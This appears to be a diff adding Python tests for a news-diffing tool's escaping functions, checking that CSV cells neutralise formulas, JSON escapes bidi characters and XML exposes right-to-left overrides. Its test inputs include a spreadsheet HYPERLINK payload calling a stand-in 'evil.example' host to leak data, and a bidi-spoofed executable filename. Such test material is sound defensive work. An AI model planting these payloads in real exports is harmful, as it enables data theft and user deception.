@@ -16,6 +16,8 @@ from newsdiff.render.escape import (
     json_dumps,
     markdown_cell,
     one_line,
+    xml_attr,
+    xml_text,
 )
 
 
@@ -88,3 +90,48 @@ def test_json_dumps_round_trips_and_is_terminal_safe() -> None:
     assert json.loads(out) == value
     assert all(ord(c) >= 0x20 and not 0x7F <= ord(c) <= 0x9F for c in out)
     assert "Россия" in out and "\u2028" not in out and "\u202e" not in out
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '"=HYPERLINK(""http://evil.example/?leak"",""Click"")"',
+        " =1+1",
+        "\u00a0+1",
+        "\u200b=1",
+        "\ufeff@SUM(A1)",
+        "'-1+1",
+        '" \u200b＝1',
+        "\u202e=1",
+    ],
+)
+def test_csv_cell_neutralises_formulas_behind_quotes_spaces_and_invisible_prefixes(
+    text: str,
+) -> None:
+    # A spreadsheet reads '"' as the text qualifier and skips spaces and invisible
+    # characters, so it would still see the formula (issue 16, item 3).
+    assert csv_cell(text).startswith("'")
+
+
+def test_csv_cell_leaves_quoted_text_alone() -> None:
+    assert csv_cell('"We are safe," NASA said.') == '"We are safe," NASA said.'
+    assert csv_cell(" plain") == " plain"
+
+
+def test_json_dumps_escapes_the_same_characters_compact_or_spaced() -> None:
+    value = {"a": "x\u200e\u200f\u061c\u202e\x85y", "b": [1, 2]}
+    compact, spaced, indented = (
+        json_dumps(value),
+        json_dumps(value, spaced=True),
+        json_dumps(value, indent=2),
+    )
+    assert compact == '{"a":"x\\u200e\\u200f\\u061c\\u202e\\u0085y","b":[1,2]}'
+    assert spaced == '{"a": "x\\u200e\\u200f\\u061c\\u202e\\u0085y", "b": [1, 2]}'
+    assert json.loads(indented) == json.loads(compact) == json.loads(spaced) == value
+
+
+def test_xml_escaping_shows_bidi_overrides_and_drops_forbidden_characters() -> None:
+    # A raw U+202E in a JUnit name or file attribute reorders what a CI page shows
+    # (issue 16, item 8).
+    assert xml_attr('evil\u202etxt.exe "\n') == "evil\\u202etxt.exe &quot;&#10;"
+    assert xml_text("a\x00b\x9bc <d>") == "a\ufffdb\\x9bc &lt;d&gt;"
